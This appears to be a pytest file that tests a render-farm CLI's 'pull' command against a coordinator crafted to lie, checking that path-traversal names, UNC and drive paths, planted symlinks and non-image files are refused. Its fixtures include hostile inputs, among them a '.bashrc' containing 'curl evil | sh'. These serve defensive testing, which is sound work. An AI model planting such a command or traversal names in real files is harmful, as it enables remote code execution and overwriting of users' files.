"""`pull` as a real process against a coordinator that lies (tests/support/crafted_farm.py):
its target folder is the one the person asks for, or the output folder they
submitted the job with from here (recorded by `submit`), never one a reply
names; every name must be plain and land inside; the person reads one error,
and nothing is written anywhere else."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from coordinator.cli import main as cli_main
from coordinator.cli import submitted
from tests.cli.conftest import Result, run_process
from tests.support.crafted_farm import CraftedFarm, crafted_farm, files_under
from tests.support.fakeblend import fake_blend_bytes

FRAME = os.urandom(1500)

# Every way a name can leave a folder on some OS, and names no OS should get.
UNSAFE = {
    "../../escape.png": FRAME,
    "C:f_0002.png": FRAME,
    "\\\\server\\share\\f_0003.png": FRAME,
    "..\\..\\escape.png": FRAME,
    "..": FRAME,
    ".bashrc": b"curl evil | sh",
    "NUL.png": FRAME,
    "f_0009.png": FRAME,  # a link planted in the folder, leading out of it
}


@pytest.fixture
def farm(tmp_path: Path) -> Iterator[CraftedFarm]:
    with crafted_farm(tmp_path / "farm") as crafted:
        yield crafted


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    (home / "elsewhere").mkdir(parents=True)
    return home


def job(farm: CraftedFarm, output: Path, files: dict[str, bytes]) -> int:
    """A real job whose replies say it writes to `output` and produced `files`."""
    created = farm.client().submit(
        {"name": "lies", "type": "sleep", "settings": {"task_count": 1, "seconds": 0}}
    )
    job_id = int(created["id"])
    farm.settings[job_id] = {"output": str(output)}
    farm.outputs[job_id] = files
    return job_id


def cli(farm: CraftedFarm, home: Path, *argv: str, **env: str) -> Result:
    """`python -m coordinator`, the token in the environment, HOME and the user's
    data folder (where submit records its jobs) in the test."""
    base = {"FARM_TOKEN": farm.token, "HOME": str(home), "XDG_DATA_HOME": str(home / "data")}
    return run_process("--coordinator", farm.url, *argv, env={**base, **env})


def pull(farm: CraftedFarm, home: Path, *argv: str, **env: str) -> Result:
    return cli(farm, home, "pull", *argv, **env)


def submitted_here(farm: CraftedFarm, home: Path, output: Path) -> int:
    """A render job submitted with `submit`, whose output is `output`; its id."""
    blend = home / "project" / "shot.blend"
    blend.parent.mkdir(parents=True, exist_ok=True)
    blend.write_bytes(fake_blend_bytes())
    result = cli(farm, home, "submit", str(blend), "--frames", "1-2", "--output", str(output))
    assert result.code == 0, result.err
    return int(result.out.split()[0])


def test_into_gets_the_plain_names_and_nothing_lands_elsewhere(
    farm: CraftedFarm, home: Path, tmp_path: Path
) -> None:
    into = home / "pulled"
    into.mkdir()
    os.symlink(home / "elsewhere" / "linked.png", into / "f_0009.png")
    absolute = str(home / "elsewhere" / "abs.png")
    job_id = job(farm, home / "x" / "f_####", {"f_0001.png": FRAME, absolute: FRAME, **UNSAFE})
    before = files_under(tmp_path / "home")
    result = pull(farm, home, str(job_id), "--into", str(into))
    assert result.code == 1, result.err
    assert result.out.startswith(f"pulled 1 file (0.0 MB) into {into}")
    assert result.err.count("error:") == 1 and "Traceback" not in result.err
    assert "skipped 9 files the farm named unsafely: file name" in result.err
    assert f"Nothing was written outside {into}" in result.err
    assert farm.fetched(job_id) == ["f_0001.png"]
    after = files_under(tmp_path / "home")
    assert {k: v for k, v in after.items() if k not in before} == {"pulled/f_0001.png": FRAME}
    assert {k: after[k] for k in before} == before


def test_without_into_a_job_not_submitted_from_here_is_refused_whatever_its_folder(
    farm: CraftedFarm, home: Path, tmp_path: Path
) -> None:
    startup = home / ".config" / "blender" / "4.2" / "scripts" / "startup"
    startup.mkdir(parents=True)
    renders = home / "shots" / "renders"  # an ordinary folder: refused all the same
    before = files_under(tmp_path / "home")
    for folder in (startup, renders):
        job_id = job(farm, folder / "f_####", {"evil.py": b"import os", "f_0001.png": FRAME})
        result = pull(farm, home, str(job_id))
        assert result.code == 2 and result.out == "", result.err
        assert f"no output folder recorded for job {job_id}" in result.err
        assert "never writes where the farm's reply says; pass --into DIR" in result.err
        assert "Traceback" not in result.err
        assert farm.fetched(job_id) == []
    assert files_under(tmp_path / "home") == before and not renders.exists()


def test_without_into_only_renders_land_in_the_folder_submitted_from_here(
    farm: CraftedFarm, home: Path
) -> None:
    renders = home / "shots" / "renders"
    job_id = submitted_here(farm, home, renders / "f_####")
    record = home / "data" / "blender-farm" / "cli" / "submitted-jobs.json"
    assert oct(record.stat().st_mode & 0o777) == "0o600"
    assert oct(record.parent.stat().st_mode & 0o777) == "0o700"
    # The reply now says the job writes into a startup-scripts folder: not taken.
    startup = home / ".config" / "blender" / "4.2" / "scripts" / "startup"
    farm.settings[job_id] = {"output": str(startup / "f_####")}
    files = {"f_0001.png": FRAME, "f_0002.exr": FRAME, "evil.py": b"import os"}
    farm.outputs[job_id] = {**files, "../../escape.png": FRAME, "shot.blend": b"x"}
    result = pull(farm, home, str(job_id))
    assert result.code == 1, result.err
    assert f"no --into: pulling into {renders}, the output folder job {job_id}" in result.err
    assert result.err.count("error:") == 1 and "skipped 3 files" in result.err
    assert "'evil.py' is refused: not an image or movie" in result.err
    assert sorted(p.name for p in renders.iterdir()) == ["f_0001.png", "f_0002.exr"]
    assert sorted(farm.fetched(job_id)) == ["f_0001.png", "f_0002.exr"]
    assert not startup.exists()
    assert sorted(p.name for p in home.iterdir()) == ["data", "elsewhere", "project", "shots"]


def test_a_damaged_record_is_named_and_pull_asks_for_into(farm: CraftedFarm, home: Path) -> None:
    job_id = submitted_here(farm, home, home / "renders" / "f_####")
    record = home / "data" / "blender-farm" / "cli" / "submitted-jobs.json"
    record.write_text('{"format": 1, "jobs": [{"farm": ', encoding="utf-8")
    result = pull(farm, home, str(job_id))
    assert result.code == 2 and "Traceback" not in result.err
    assert f"the record of submitted jobs {record} is damaged" in result.err
    assert "pass --into DIR, or delete that file" in result.err
    # The next submit sets the damaged record aside, says so, and records anew.
    again = submitted_here(farm, home, home / "renders" / "f_####")
    assert record.with_name("submitted-jobs.json.damaged").is_file()
    farm.outputs[again] = {"f_0001.png": FRAME}
    result = pull(farm, home, str(again))
    assert result.code == 0, result.err
    assert (home / "renders" / "f_0001.png").read_bytes() == FRAME


def test_pull_reads_the_record_once(
    farm: CraftedFarm,
    home: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A record damaged (by another lanfarm) just after pull read it changes
    nothing: the folder and File Outputs come from that one reading."""
    renders = home / "renders"
    job_id = submitted_here(farm, home, renders / "f_####")
    farm.outputs[job_id] = {"f_0001.png": FRAME}
    record = home / "data" / "blender-farm" / "cli" / "submitted-jobs.json"
    real_recall, readings = submitted.recall, []

    def recall_then_damage(*args: Any, **kwargs: Any) -> submitted.Submitted | None:
        readings.append(args)
        found = real_recall(*args, **kwargs)
        record.write_text('{"format": 1, "jobs": [', encoding="utf-8")
        return found

    monkeypatch.setattr(submitted, "recall", recall_then_damage)
    monkeypatch.setenv("FARM_TOKEN", farm.token)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_DATA_HOME", str(home / "data"))
    code = cli_main.main(["--coordinator", farm.url, "pull", str(job_id)])
    out, err = capsys.readouterr()
    assert code == 0 and "Traceback" not in err, err
    assert out.startswith(f"pulled 1 file (0.0 MB) into {renders}")
    assert len(readings) == 1
    assert (renders / "f_0001.png").read_bytes() == FRAME
